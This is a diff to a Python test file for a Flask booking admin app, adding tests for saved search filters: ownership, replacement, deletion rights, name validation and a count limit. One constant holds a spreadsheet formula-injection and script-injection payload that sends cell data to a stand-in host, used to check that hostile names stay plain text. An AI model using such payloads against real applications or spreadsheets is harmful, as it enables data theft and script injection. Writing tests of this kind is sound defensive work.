@@ -2,14 +2,18 @@
 
 import csv
 import io
+import re
 import tracemalloc
 from datetime import date
+from html import unescape
 from pathlib import Path
+from typing import Any
 
 import pytest
 from flask.testing import FlaskClient
 
 from booking.domain.dates import Stay
+from booking.domain.roles import Role
 from booking.domain.states import Source
 from booking.extensions import db
 from booking.models import Listing, Unit
@@ -18,6 +22,7 @@ from tests.web.admin_house import FIRST, House
 from tests.web.test_statements import noting
 
 APRIL, MAY = Stay(date(2027, 4, 1), date(2027, 4, 3)), Stay(date(2027, 5, 1), date(2027, 5, 3))
+PRESS = {"submit": ""}
 HOSTILE = '=HYPERLINK("http://x.test?"&A1) <b onclick=alert(1)>'
 
 
@@ -29,7 +34,7 @@ def house(tmp_path: Path) -> House:
 def found(house: House, **query: str) -> list[int]:
     """The bookings on the page, in its order."""
     page = house.ada().get("/admin/bookings", query_string=query).text
-    return [int(part.partition('"')[0]) for part in page.split('href="/admin/bookings/')[1:]]
+    return [int(number) for number in re.findall(r'href="/admin/bookings/(\d+)"', page)]
 
 
 def sheet(house: House, **query: str) -> list[dict[str, str]]:
@@ -121,6 +126,79 @@ def test_list_asks_as_often_for_many_bookings_as_for_one(house: House) -> None:
         client.get("/admin/bookings?status=confirmed&sort=name")
 
     assert len(many) == len(few) <= 8
+
+
+def keep(client: FlaskClient, name: str, **query: str) -> Any:
+    return client.post("/admin/bookings/filters", data={"name": name, **query})
+
+
+def kept(client: FlaskClient) -> dict[str, str]:
+    """The names of one's own filters, and where each leads."""
+    page = client.get("/admin/bookings").text
+    found = page[page.index('id="mine"') : page.index("</section>")] if 'id="mine"' in page else ""
+    return {unescape(name): unescape(path) for path, name in re.findall(r'<a href="([^"]*)">(.*?)</a>', found)}
+
+
+def test_filters_are_kept_for_oneself_and_without_whom_one_looked_for(house: House) -> None:
+    ada, ben = house.ada(), house.member(Role.DESK)
+
+    answer = keep(ada, " Unpaid  in April ", payment="unpaid", arrive_from="2027-04-01", q="Grace", page="3")
+    keep(ben, "Mine", status="pending")
+
+    assert answer.location == "/admin/bookings?payment=unpaid&arrive_from=2027-04-01"
+    assert kept(ada) == {"Unpaid in April": "/admin/bookings?payment=unpaid&arrive_from=2027-04-01"}
+    assert kept(ben) == {"Mine": "/admin/bookings?status=pending"}
+
+
+def test_a_filter_of_the_same_name_takes_the_place_of_the_older(house: House) -> None:
+    ada = house.ada()
+
+    keep(ada, "Mine", status="pending")
+    keep(ada, "Mine", status="expired", sort="name")
+
+    assert kept(ada) == {"Mine": "/admin/bookings?status=expired&sort=name"}
+
+
+def test_nobody_forgets_a_filter_of_somebody_else(house: House) -> None:
+    ada, ben = house.ada(), house.member(Role.OWNER)
+    keep(ada, "Mine", status="pending")
+
+    assert ben.post("/admin/bookings/filters/1/forget", data=PRESS).status_code == 404
+    assert kept(ada)
+    assert ada.post("/admin/bookings/filters/1/forget", data=PRESS).status_code == 303
+    assert ada.post("/admin/bookings/filters/1/forget", data=PRESS).status_code == 404
+    assert not kept(ada)
+
+
+@pytest.mark.parametrize("name", ["", "   ", "x" * 61, "\0"])
+def test_a_filter_without_a_good_name_is_refused_at_its_field(house: House, name: str) -> None:
+    answer = keep(house.ada(), name, status="pending", payment="paid")
+
+    assert answer.status_code == 422
+    assert 'aria-describedby="name-hint name-error"' in answer.text
+    assert '<input type="hidden" name="payment" value="paid">' in answer.text
+
+
+def test_there_is_an_end_to_how_many_filters_are_kept(house: House) -> None:
+    ada = house.ada()
+    for number in range(20):
+        keep(ada, f"Filter {number}", status="pending")
+
+    answer = keep(ada, "One more", status="pending")
+
+    assert answer.status_code == 422
+    assert "You keep 20 filters" in answer.text
+    assert keep(ada, "Filter 3", status="expired").status_code == 303
+
+
+def test_hostile_names_of_filters_are_only_text_and_nothing_is_kept_of_nothing(house: House) -> None:
+    ada = house.ada()
+
+    assert keep(ada, "Mine", status="nonsense", next="https://x.test", q="Grace").status_code == 400
+    keep(ada, HOSTILE, status="pending", listing="9999")
+
+    assert list(kept(ada)) == [HOSTILE]
+    assert "<b onclick" not in ada.get("/admin/bookings").text
 
 
 # --- as a file ------------------------------------------------------------------------------------------------------
